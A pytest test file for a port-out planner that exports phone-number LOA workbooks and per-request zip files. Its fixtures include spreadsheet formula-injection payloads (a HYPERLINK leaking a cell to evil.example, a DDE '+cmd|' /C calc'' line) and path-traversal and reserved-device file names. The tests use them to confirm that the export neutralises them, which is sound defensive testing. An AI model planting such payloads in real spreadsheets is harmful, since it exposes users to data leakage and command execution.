"""The LOA workbook (issue 4), read back with python-calamine (values) and openpyxl (cell types, styles)."""

from __future__ import annotations

import csv
import io
import os
import re
import resource
import tomllib
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from org_support import org_settings
from paths import SAMPLES
from portout.costs.report import compute_costs
from portout.export.labels import label_keys
from portout.export.workbook import (
    build_per_request_zip,
    build_workbook,
    compress_ranges,
    format_ranges,
    iter_request_workbooks,
    safe_filename,
    safe_sheet_title,
)
from portout.inventory.reader import read_inventory
from portout.plan.planner import build_plan
from portout.settings import parse_settings

HEADER = [
    "Phone Number",
    "Provider",
    "Location",
    "Street",
    "Street 2",
    "City",
    "State",
    "Postal Code",
    "Country",
    "Assigned To",
    "Owner Type",
]
LONG_A = "1234 Extraordinarily Long Boulevard Name, Building A"
LONG_B = "1234 Extraordinarily Long Boulevard Name, Building B"
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "error": "#N/A",
}
GENERATED = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)


def settings(**overrides):
    # The sample's organisation id on purpose: the account-number assertions below are worked out by hand for it.
    sections = {
        "organization": {"id": "2f6c3a1e-8b7d-4c5e-9a10-1234abcd5678", "name": "Acme", "default_country": "US"},
        "signer": {"name": "Dana Admin", "title": "UC lead", "phone": "+1 317 555 0199"},
        "carrier": {"name": "Northwind"},
    }
    return org_settings(**{**sections, **overrides})


def write_inventory(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows(rows)
    return path


def row(number, street, city="Indianapolis", postal="46204", country="US", owner="", location="", street2=""):
    return [
        number,
        "PURE_CLOUD_VOICE",
        location,
        street,
        street2,
        city,
        "",
        postal,
        country,
        owner,
        "USER" if owner else "",
    ]


@pytest.fixture
def hostile_plan(tmp_path):
    rows = [
        # a block of 3 consecutive numbers, a gap, then 2 more: ranges
        row("+13175550100", "100 Monument Circle", owner=HOSTILE["dde"], location=HOSTILE["minus"]),
        row("+13175550101", "100 Monument Circle", owner=HOSTILE["at"]),
        row("+13175550102", "100 Monument Circle", owner=HOSTILE["error"]),
        row("+13175550200", "100 Monument Circle", owner="Zoë Ünicode 東京 🚀"),
        row("+13175550201", "100 Monument Circle", owner="x" * 40000),
        row("+13175550300", HOSTILE["hyperlink"], city="Evilville"),
        row("+13175550301", "../../etc/passwd", city="..", location="../../etc/passwd"),
        row("+13175550302", LONG_A),
        row("+13175550303", LONG_B),
        row("+16175550100", "1 Harbor Street", city="Boston", postal="02134"),
        row("+493012345678", "Friedrichstraße 123", city="Berlin", postal="10117", country="DE"),
        row("+442079460000", "CON", city="NUL", postal="WC2E 9LH", country="GB"),
        row("+13125550100", "O'Hare Plaza!", city="Chicago", postal="60666"),  # quoted in print-title names
        ["not a number", "PURE_CLOUD_VOICE", "", "=1+1", "", "X", "", "1", "US", "", ""],
        ["=cmd()", "PURE_CLOUD_VOICE", "", "1 Main", "", "X", "", "1", "US", "", ""],
    ]
    inv = read_inventory(str(write_inventory(tmp_path / "inv.csv", rows)))
    plan = build_plan(inv, settings())
    # The reader trims cells, so tab/CR-leading and control characters go straight into the plan.
    numbers = plan.numbers.copy()
    numbers.loc[numbers["number"] == "+13175550102", "owner_type"] = "\t=1+2"
    numbers.loc[numbers["number"] == "+13175550200", "owner_type"] = "\r=1+3"
    numbers.loc[numbers["number"] == "+13175550201", "location"] = "bell\x07 and _x0041_ literal"
    plan.numbers = numbers
    plan.requests = [replace(r, loa_name="\r-cmd") if r.service_address.street1 == LONG_A else r for r in plan.requests]
    return plan


def calamine(data: bytes) -> dict[str, list[list[object]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def all_values(sheets: dict[str, list[list[object]]]) -> list[object]:
    return [v for rows in sheets.values() for r in rows for v in r]


def sheet_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/")}


# --------------------------------------------------------------------------- safety


def test_no_formulas_errors_or_hyperlinks_anywhere(hostile_plan):
    data = build_workbook(hostile_plan, generated_at=GENERATED)
    for name, xml in sheet_xml(data).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert 't="e"' not in xml and "<hyperlink" not in xml, name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        assert not ws._hyperlinks
        for cells in ws.iter_rows():
            for cell in cells:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None


def test_hostile_text_kept_verbatim_as_quoted_text(hostile_plan):
    data = build_workbook(hostile_plan, generated_at=GENERATED)
    values = all_values(calamine(data))
    for text in HOSTILE.values():
        assert text in values, text
    # tab and CR survive (CR is escaped as _x000D_, which readers turn back into CR)
    assert "\t=1+2" in values and "\r=1+3" in values and "\r-cmd" in values
    assert "bell\x07 and _x0041_ literal" in values
    assert "x" * 32766 + "…" in values  # Excel's cell limit, marked as cut
    assert "Zoë Ünicode 東京 🚀" in values

    wb = openpyxl.load_workbook(io.BytesIO(data))
    risky = set(HOSTILE.values()) | {"\t=1+2"}
    seen = set()
    for ws in wb.worksheets:
        for cells in ws.iter_rows():
            for cell in cells:
                if cell.value in risky:
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert seen == risky


def test_phone_numbers_are_text_cells(hostile_plan):
    data = build_workbook(hostile_plan, generated_at=GENERATED)
    sheets = calamine(data)
    all_rows = sheets["All numbers"]
    assert all_rows[0][0] == "Number (E.164)"
    numbers = [r[0] for r in all_rows[1:]]
    # every planned number once, grouped by request id and ascending within each request
    expected = sorted(zip(hostile_plan.numbers["request_id"], hostile_plan.numbers["number"]))
    assert numbers == [number for _, number in expected]
    assert all(isinstance(n, str) and n.startswith("+") for n in numbers)
    national = {r[0]: r[1] for r in all_rows[1:]}
    assert national["+493012345678"].startswith("030")  # leading zero kept
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["All numbers"]
    for cells in ws.iter_rows(min_row=2, max_col=2):
        for cell in cells:
            assert cell.data_type == "s" and cell.number_format == "@", cell.coordinate
    # postcodes keep their leading zero on the LOA sheet
    assert "02134" in all_values(sheets)


def test_sheet_titles_valid_unique_and_full_address_inside(hostile_plan):
    data = build_workbook(hostile_plan, generated_at=GENERATED)
    sheets = calamine(data)
    names = list(sheets)
    assert names[0] == "Summary" and names[-3:] == ["All numbers", "Excluded", "Warnings"]
    assert len({n.casefold() for n in names}) == len(names)
    for n in names:
        assert 0 < len(n) <= 31 and not re.search(r"[/\\?*\[\]:]", n) and not n.startswith("'")
    assert len(names) == len(hostile_plan.requests) + 4
    assert "O'Hare Plaza!, Chicago" in names
    wb = openpyxl.load_workbook(io.BytesIO(data))  # print-title names with the apostrophe still parse
    assert wb["O'Hare Plaza!, Chicago"].print_title_rows == "$1:$1"
    long_sheets = [n for n in names if n.startswith("1234 Extraordinarily")]
    assert len(long_sheets) == 2
    for n in long_sheets:
        assert any(v in (LONG_A, LONG_B) for r in sheets[n] for v in r)  # the full street stays inside


def test_loa_sheet_has_every_item(hostile_plan):
    data = build_workbook(hostile_plan, generated_at=GENERATED)
    sheets = calamine(data)
    req = next(r for r in hostile_plan.requests if r.service_address.street1 == "100 Monument Circle")
    summary = sheets["Summary"]
    header_at = next(i for i, r in enumerate(summary) if r[0] == "Request")
    by_id = {r[0]: r for r in summary[header_at + 1 :]}
    sheet = sheets[by_id[req.id][2]]
    block = {r[0]: r[1] for r in sheet[1:] if r[0]}
    assert block["Port request"] == req.id
    assert block["Name"] == "Acme Inc."
    assert block["Street"] == "100 Monument Circle" and block["City"] == "Indianapolis"
    assert block["Postal code"] == "46204" and block["Country"] == "US"
    assert block["Account number / ID (as for this carrier)"] == "abcd5678"
    assert block["Account number, digits only (for carriers that refuse letters)"] == "12345678"
    assert block["BTN (billing telephone number)"] == req.btn == "+13175550100"
    assert block["Current carrier name"] == "Genesys"
    assert block["Authorized signer"] == "Dana Admin" and block["Signer phone"] == "+1 317 555 0199"
    # Values are values: a few words in the value column, the instruction in the guidance column beside it.
    guide = {r[0]: r[2] for r in sheet[1:] if r[0]}
    assert sheet[0][2] == "Guidance (not for the form)"
    assert block["PIN"] == "from Genesys Cloud Voice support" and "PIN" in guide["PIN"]
    assert block["Proof of ownership"] == "screenshot of Number Management"
    assert "screenshot" in guide["Proof of ownership"] and "Number Management" in guide["Proof of ownership"]
    assert "Genesys Cloud Voice Admin" in guide["Authorized signer"] and "CSR" in guide["CSR"]
    assert "remove the numbers" in guide["After the port"] and not block["After the port"]
    assert all(len(str(v)) < 120 for k, v in block.items() if k != "Service address"), block
    assert sheet[0][3:7] == ["Range", "First", "Last", "Numbers"]
    assert [r[3] for r in sheet[1:3]] == ["+13175550100 – +13175550102 (3)", "+13175550200 – +13175550201 (2)"]
    assert [r[8] for r in sheet[1:6]] == req.numbers
    assert sheet[1][11] == HOSTILE["dde"] and sheet[1][13] == HOSTILE["minus"]
    assert block["Numbers in this request"] == 5 and block["Ranges"] == 2


def test_partner_note_only_when_invoiced_by_partner(tmp_path):
    inv = read_inventory(str(write_inventory(tmp_path / "i.csv", [row("+13175550100", "1 A St")])))
    plan = build_plan(
        inv,
        settings(
            invoice={"invoiced_by": "partner", "partner": {"name": "Reseller GmbH"}, "ship_to": {"name": "Acme Inc."}}
        ),
    )
    sheets = calamine(build_workbook(plan, generated_at=GENERATED))
    rows = sheets[list(sheets)[1]]
    block = {r[0]: r[1] for r in rows}
    guide = {r[0]: r[2] for r in rows}
    assert "partner" in guide["Partner"] and block["Name"] == "Reseller GmbH"
    # No partner address: the name (and a Ship To address) are marked for the partner to confirm.
    assert "To be confirmed by the partner" in guide["Name"]
    (w,) = [w for w in plan.warnings if w.code == "partner_values_to_confirm"]
    assert w.request_ids == [r.id for r in plan.requests] and all("loa_name" in r.to_confirm for r in plan.requests)
    assert all(r.readiness["status"] == "needs_attention" for r in plan.requests)


def test_partner_with_an_address_needs_no_confirmation(tmp_path):
    inv = read_inventory(str(write_inventory(tmp_path / "i.csv", [row("+18005550100", "1 A St")])))
    partner = {
        "name": "Reseller GmbH",
        "street1": "Hauptstr. 1",
        "city": "Berlin",
        "postal_code": "10117",
        "country": "DE",
    }
    plan = build_plan(
        inv, settings(invoice={"invoiced_by": "partner", "partner": partner, "ship_to": {"name": "Acme Inc."}})
    )
    assert not [w for w in plan.warnings if w.code == "partner_values_to_confirm"]
    assert plan.requests[0].to_confirm == [] and plan.requests[0].address_source == "partner"


def test_excluded_sheet_lists_reasons(hostile_plan):
    sheets = calamine(build_workbook(hostile_plan, generated_at=GENERATED))
    rows = sheets["Excluded"]
    assert rows[0][:4] == ["Inventory row", "Input", "Number (E.164)", "Reason"]
    inputs = {r[1]: r[3] for r in rows[1:]}
    assert inputs["not a number"] == "not a valid phone number"
    assert "=cmd()" in inputs


def test_layout_styles_and_properties(hostile_plan):
    data = build_workbook(hostile_plan, generated_at=GENERATED)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.properties.creator == "Port-Out Planner"
    assert "Acme" in wb.properties.title
    for ws in wb.worksheets:
        assert ws.freeze_panes is not None, ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.column_dimensions["A"].width > 5
    all_ws = wb["All numbers"]
    assert all_ws.freeze_panes == "A2" and all(c.font.b for c in all_ws[1])
    summary = wb["Summary"]
    header_row = int(summary.freeze_panes[1:]) - 1
    assert summary.cell(header_row, 1).value == "Request" and summary.cell(header_row, 1).font.b


def test_summary_totals_and_generated_at(hostile_plan):
    sheets = calamine(build_workbook(hostile_plan, generated_at=GENERATED))
    summary = sheets["Summary"]
    block = {r[0]: r[1] for r in summary[:15]}
    assert block["Generated at"] == "2026-03-01 09:30 UTC"
    # The fixture uses the bundled sample's Organization ID: the workbook says so instead of passing it off.
    assert block["Organization ID"] == "2f6c3a1e-8b7d-4c5e-9a10-1234abcd5678 (SAMPLE VALUE, not yours)"
    total = next(r for r in summary if r[0] == "Total")
    assert total[1] == len(hostile_plan.requests) and total[6] == len(hostile_plan.numbers)


# --------------------------------------------------------------------------- languages, costs


def test_german_labels(hostile_plan):
    sheets = calamine(build_workbook(hostile_plan, lang="de", generated_at=GENERATED))
    names = list(sheets)
    assert names[0] == "Übersicht" and names[-3:] == ["Alle Nummern", "Ausgeschlossen", "Hinweise"]
    values = all_values(sheets)
    for label in (
        "Anschlussadresse",
        "Kundennummer",
        "Name des bisherigen Carriers",
        "geografisch",
        "Postleitzahl",
        "Erstellt am",
    ):
        assert label in values, label
    assert any(isinstance(v, str) and "Nummernverwaltung" in v for v in values)
    assert label_keys("en") == label_keys("de")


def test_costs_shown_when_given(hostile_plan):
    ids = [r.id for r in hostile_plan.requests]
    computed = compute_costs(hostile_plan, hostile_plan.settings.billing, as_of=date(2026, 3, 1))
    # the export shows what the report says: set recognisable values in a real CostReport
    report = replace(
        computed,
        # every number priced (a request without a priced number has no amount to show)
        requests=computed.requests.assign(
            prorated_total=Decimal("1.25"), removal_date=date(2026, 3, 20), priced_numbers=computed.requests["numbers"]
        ),
        totals={**computed.totals, "prorated_total": Decimal("1.25") * len(ids), "priced_numbers": len(ids)},
        currency="EUR",
        convention={"days": "actual", "removal_day": "included", "rounding": "half_up", "rounding_scope": "number"},
    )
    data = build_workbook(hostile_plan, costs=report, generated_at=GENERATED)
    summary = calamine(data)["Summary"]
    header = next(r for r in summary if r[0] == "Request")
    assert header[-2:] == ["Removal date", "Prorated charge (EUR)"]
    first = summary[summary.index(header) + 1]
    assert first[-2] == date(2026, 3, 20) and first[-1] == 1.25
    assert any(r[0] == "Total prorated charge" and r[1] == pytest.approx(1.25 * len(ids)) for r in summary)
    assert any(r[0] == "Cost convention" and "actual days" in r[1] for r in summary)


def test_real_cost_report(hostile_plan):
    report = compute_costs(
        hostile_plan, hostile_plan.settings.billing, as_of=date(2026, 3, 1), removal_date=date(2026, 3, 10)
    )
    sheets = calamine(build_workbook(hostile_plan, costs=report, generated_at=GENERATED))
    header = next(r for r in sheets["Summary"] if r[0] == "Request")
    assert header[-2] == "Removal date"


# --------------------------------------------------------------------------- per request


def test_per_request_zip_names_and_contents(hostile_plan):
    data = build_per_request_zip(hostile_plan, generated_at=GENERATED)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = zf.namelist()
        assert len(names) == len(hostile_plan.requests)
        assert len({n.casefold() for n in names}) == len(names)
        for name in names:
            assert name.endswith(".xlsx") and "/" not in name and "\\" not in name and ".." not in name
            assert not re.search(r'[\x00-\x1f<>:"|?*]', name) and not name.startswith(".")
            assert name.split(".")[0].strip().upper() not in {"CON", "NUL", "PRN", "AUX"}
        for req in hostile_plan.requests:
            name = next(n for n in names if n.startswith(req.id + " ") or n == req.id + ".xlsx")
            book = calamine(zf.read(name))
            assert len(book) == 1
            rows = next(iter(book.values()))
            assert [r[8] for r in rows[1 : 1 + req.size]] == req.numbers
        passwd = [n for n in names if "etc" in n]
        assert passwd and all("passwd" in n and "/" not in n for n in passwd)


def test_iter_request_workbooks_yields_bytes(hostile_plan):
    items = list(iter_request_workbooks(hostile_plan))
    assert [n for n, _ in items] == sorted({n for n, _ in items}, key=[n for n, _ in items].index)
    assert all(d[:2] == b"PK" for _, d in items)


def test_many_requests_within_a_low_open_file_limit(tmp_path):
    rows = [row(f"+1317555{i:04d}", f"{i} Elm Street") for i in range(400)]
    plan = build_plan(read_inventory(str(write_inventory(tmp_path / "many.csv", rows))), settings())
    assert len(plan.requests) == 400
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    open_now = len(os.listdir("/proc/self/fd")) if os.path.isdir("/proc/self/fd") else 20
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(open_now + 64, hard), hard))
    try:
        data = build_workbook(plan, generated_at=GENERATED)
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    names = CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
    assert len(names) == 404 and len({n.casefold() for n in names}) == 404  # 400 requests + 4 fixed sheets


def test_empty_plan(tmp_path):
    rows = [["junk", "PURE_CLOUD_VOICE", "", "1 A St", "", "X", "", "1", "US", "", ""]]
    plan = build_plan(read_inventory(str(write_inventory(tmp_path / "e.csv", rows))), settings())
    sheets = calamine(build_workbook(plan, generated_at=GENERATED))
    assert list(sheets) == ["Summary", "All numbers", "Excluded", "Warnings"]
    assert len(sheets["Excluded"]) == 2
    assert zipfile.ZipFile(io.BytesIO(build_per_request_zip(plan))).namelist() == []


# --------------------------------------------------------------------------- helpers


@pytest.mark.parametrize(
    "numbers, expected",
    [
        ([], []),
        (["+13175550100"], [("+13175550100", "+13175550100", 1)]),
        (["+13175550102", "+13175550100", "+13175550101", "+13175550101"], [("+13175550100", "+13175550102", 3)]),
        (
            ["+13175550100", "+13175550101", "+13175550105", "+13175550106", "+13175550110"],
            [
                ("+13175550100", "+13175550101", 2),
                ("+13175550105", "+13175550106", 2),
                ("+13175550110", "+13175550110", 1),
            ],
        ),
        # different lengths never join, even when the digits would continue
        (
            ["+4930123", "+4930124", "+49301250", "+49301251"],
            [("+4930123", "+4930124", 2), ("+49301250", "+49301251", 2)],
        ),
        (["+13175559999", "+13175560000"], [("+13175559999", "+13175560000", 2)]),
        (["+13175550100", "odd"], [("+13175550100", "+13175550100", 1), ("odd", "odd", 1)]),
    ],
)
def test_compress_ranges(numbers, expected):
    assert compress_ranges(numbers) == expected


def test_format_ranges():
    nums = [f"+1317555{i:04d}" for i in range(100, 150)] + ["+13175550200"]
    assert format_ranges(nums) == ["+13175550100 – +13175550149 (50)", "+13175550200"]


def test_safe_sheet_title():
    taken: set[str] = set()
    assert safe_sheet_title("a/b\\c?d*e[f]g:h", taken) == "a b c d e f g h"
    t1 = safe_sheet_title("X" * 40, taken)
    t2 = safe_sheet_title("x" * 35, taken)  # Excel compares titles case-insensitively
    assert len(t1) == 31 and len(t2) <= 31 and t1.casefold() != t2.casefold()
    assert safe_sheet_title("", taken) == "Sheet"
    assert safe_sheet_title("'quoted'", taken) == "quoted"
    assert safe_sheet_title("History", taken) != "History"
    assert safe_sheet_title("tab\there\x01", taken) == "tab here"


@pytest.mark.parametrize(
    "name, expected",
    [
        ("../../etc/passwd", "etc_passwd.xlsx"),
        ("..", "request.xlsx"),
        ("CON", "_CON.xlsx"),
        ("nul.txt", "_nul.txt.xlsx"),
        ("COM1 ", "_COM1.xlsx"),
        ('a<b>c:"d|e?f*g\x00h\x1f', "a_b_c_d_e_f_g_h.xlsx"),
        ("trailing dots...", "trailing dots.xlsx"),
        ("C:\\Windows\\system32", "C_Windows_system32.xlsx"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name, set()) == expected


def test_safe_filename_unique_and_short():
    taken: set[str] = set()
    a = safe_filename("Report", taken)
    b = safe_filename("report", taken)
    assert a == "Report.xlsx" and b == "report (2).xlsx"
    assert len(safe_filename("y" * 500, taken)) <= 105


def test_wrapped_guidance_rows_get_a_height_for_their_lines(tmp_path) -> None:
    # Write-only rows keep the default height and LibreOffice does not grow them: long guidance would
    # overprint the rows below unless the row carries its own height.
    samples = SAMPLES
    plan = build_plan(
        read_inventory(samples / "inventory_de.csv"), parse_settings(tomllib.loads((samples / "org.toml").read_text()))
    )
    wb = openpyxl.load_workbook(io.BytesIO(build_workbook(plan)))
    ws = wb[wb.sheetnames[1]]
    tall = {row: ws.row_dimensions[row].height for row in range(2, 40) if ws.row_dimensions[row].height}
    guidance_rows = [
        row for row in range(2, 40) if isinstance(ws.cell(row, 3).value, str) and len(ws.cell(row, 3).value) > 2 * 60
    ]
    assert guidance_rows and all(tall.get(row, 0) >= 30 for row in guidance_rows)
    # Labels wider than column A wrap (printing keeps the LOA values on one portrait page): their rows are
    # tall enough for two lines.
    width = ws.column_dimensions["A"].width
    long_labels = [r for r in range(2, 30) if len(str(ws.cell(r, 1).value or "")) > width]
    assert ws.cell(2, 1).alignment.wrap_text
    assert all(tall.get(r, 0) >= 30 for r in long_labels), (long_labels, tall)


def test_warnings_sheet_lists_what_must_be_decided(tmp_path):
    from portout.settings import load_settings

    samples = SAMPLES
    plan = build_plan(read_inventory(samples / "inventory.csv"), load_settings(samples / "org.toml"))
    rows = calamine(build_workbook(plan, generated_at=GENERATED))["Warnings"]
    assert rows[0][:4] == ["Warning", "Details", "Requests", "Numbers"]
    by_code = {r[0]: r for r in rows[1:]}
    assert set(by_code) == {w.code for w in plan.warnings}
    assigned = next(w for w in plan.warnings if w.code == "still_assigned")
    assert by_code["still_assigned"][3] == len(assigned.numbers)
    assert by_code["still_assigned"][4].startswith(assigned.numbers[0]) and by_code["still_assigned"][4].endswith("…")


def test_unset_organisation_values_are_marked_not_set(tmp_path):
    from portout.inventory.reader import read_inventory
    from portout.plan.planner import build_plan
    from portout.settings import load_settings

    csv = tmp_path / "inv.csv"
    csv.write_text("number,street1,city,postal_code,country\n+13175550100,1 Main St,Indianapolis,46204,US\n")
    plan = build_plan(read_inventory(csv), load_settings(b""))
    for lang, marker in (("en", "NOT SET"), ("de", "NICHT GESETZT")):
        sheets = calamine(build_workbook(plan, generated_at=GENERATED, lang=lang))
        summary = next(iter(sheets.values()))  # the summary sheet comes first (its title is translated)
        values = [str(r[1]) for r in summary[:15]]
        assert sum(marker in v for v in values) >= 4, values  # name, ID, signer, gaining carrier
